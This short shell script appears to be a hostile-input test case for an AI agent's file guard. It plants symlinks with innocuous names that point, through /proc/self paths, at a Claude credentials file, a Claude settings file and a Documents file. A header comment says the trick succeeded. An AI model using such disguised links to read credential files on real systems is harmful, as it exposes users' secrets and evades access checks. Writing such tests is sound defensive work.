#!/bin/sh
# Links by the names that such files have on every machine of the person, and through /proc.
# Version 0.1.0: it succeeded.
. "${srcdir:-.}/tests/hostile/lab.sh"
aim=told
without=origin,links

plant()
{
	ln -s "$HOME/.claude/.credentials.json" state.json
	ln -s "/proc/self/cwd/../../.claude/settings.json" preferences.json
	ln -s "/proc/self/root$HOME/Documents/state.json" connections.json
}

attack "$@"
